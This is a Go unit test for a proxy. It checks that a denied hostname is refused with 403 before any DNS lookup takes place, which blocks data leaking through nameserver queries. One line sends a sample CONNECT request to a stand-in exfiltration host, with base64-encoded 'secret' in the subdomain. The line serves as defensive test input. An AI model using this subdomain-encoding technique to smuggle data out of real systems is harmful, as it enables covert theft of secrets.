package proxy

import (
	"bufio"
	"context"
	"net"
	"net/http"
	"net/netip"
	"sync/atomic"
	"testing"
)

// countingResolver counts lookups and answers nothing.
type countingResolver struct{ n atomic.Int64 }

func (c *countingResolver) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	c.n.Add(1)
	return nil, &net.DNSError{Err: "no such host", IsNotFound: true}
}

// TestDeniedNameIsNeverResolved: a name the policy denies is refused
// before any lookup, so a CONNECT cannot carry data to a nameserver.
func TestDeniedNameIsNeverResolved(t *testing.T) {
	res := &countingResolver{}
	p, err := New(Config{
		Decide: func(_ context.Context, t Target) Decision {
			return Decision{Reason: "denied " + t.Host}
		},
		Resolver: res,
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = p.Serve(ctx, ln)
	}()
	defer func() {
		cancel()
		<-done
		p.Close()
	}()
	c, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte("CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1\r\nHost: c2VjcmV0.exfil.example:443\r\n\r\n"))
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("status %d, want 403", resp.StatusCode)
	}
	if n := res.n.Load(); n != 0 {
		t.Errorf("the denied name was resolved %d times", n)
	}
}
